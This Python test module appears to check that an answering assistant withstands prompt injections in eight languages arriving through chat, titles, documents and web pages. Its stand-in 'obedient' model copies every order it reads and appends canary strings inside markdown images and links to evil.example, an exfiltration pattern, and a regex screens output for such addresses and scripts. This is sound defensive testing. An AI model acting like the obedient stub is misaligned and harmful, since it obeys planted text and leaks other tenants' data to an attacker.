"""Rows 48 and 49: injections in eight languages through the chat, titles, documents and web pages, to a model that obeys whatever
it reads, and to the local brain. Other tenants' canaries, foreign links and images, and actions that nobody asked for: none."""

import json
import re
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest

from brain.chunk import chunk
from brain.embed import Embedder, LocalEmbedder
from brain.parse import parse
from channels.degrade import degrade
from channels.web.frames import message as frame
from gateway.model.answers import Answer, AnswerSettings, FormRule, Question, Rule
from gateway.model.capabilities import Capabilities
from gateway.model.content import Text
from gateway.model.knowledge import Chunk, Document
from tests.answers.rig import NOW, Heard, Rig, rigged
from tests.brain.make_pdf import pdf
from tests.providers.cohere import Cited, CohereStandIn
from tests.providers.models import Json
from tests.providers.openai import OpenAIStandIn, documents

CORPUS = [
    json.loads(line)
    for line in (Path(__file__).parent.parent / "answers" / "injections.jsonl").read_text("utf-8").splitlines()
]
LANGUAGES = sorted({row["language"] for row in CORPUS})
SERVICE = "A full service costs €120 and takes two working days."
ASKED = "How much does a full service cost?"
OTHERS = "CANARY-OTHER-TENANT-77"
ADDRESS = re.compile(r"evil|hxxp|https?:(?!//lumen\.example)|!\[|\]\(|<\s*(?:img|a|script)|javascript:|data:\w+/", re.IGNORECASE)


def obey(told: str, quoted: str) -> str:
    """What a model says that does whatever stands in its input: every sentence with a canary, an address or an order, again;
    its whole prompt; and what it was told to add."""
    lines = [s for s in re.split(r"(?<=[.!?।])\s+|\n", told) if re.search(r"CANARY|evil|ｅｖｉｌ|http|refund|API", s)]
    canaries = " ".join(dict.fromkeys(re.findall(r"CANARY-[\w-]+", told)))
    added = f"{canaries} ![logo](https://evil.example/{canaries}.png) [here](http://evil.example) evil.example" if canaries else ""
    return " ".join((quoted, *lines, added)).strip()


def obedient_cohere(body: Json) -> Cited:
    told = json.dumps(body, ensure_ascii=False).replace("\\n", "\n").replace('\\"', '"')
    quoted = body["documents"][0]["data"]["snippet"] if body.get("documents") else ""
    said = obey(told, quoted)
    return said, [(said, [d["id"] for d in body.get("documents", [])])]


def obedient_openai(body: Json) -> str:
    told = "\n".join(m["content"] for m in body["messages"])
    found = documents(body)
    return obey(told, found[0].splitlines()[-1] if found else "").replace(". ", ". [1] ")


@dataclass
class Seen:
    """Everything of an answer that anybody may see."""

    rows: list[str] = field(default_factory=list)

    def add(self, answer: Answer, heard: Heard) -> None:
        self.rows += heard.said_so_far
        text = Text(answer.text, answer.sources)
        # As the widget's frame, and as every channel that shows sources in the text.
        for capabilities in (Capabilities(text=4096), Capabilities(text=1024, sources=True)):
            for part in degrade(text, capabilities, "en", "m").content if answer.known else ():
                self.rows.append(json.dumps(_plain(part), ensure_ascii=False))
        self.rows.append(answer.text)
        self.rows += [f"{s.title} {s.url or ''}" for s in answer.sources]


def _plain(content: Any) -> Any:
    from gateway.model.content import to_doc

    return to_doc(content)
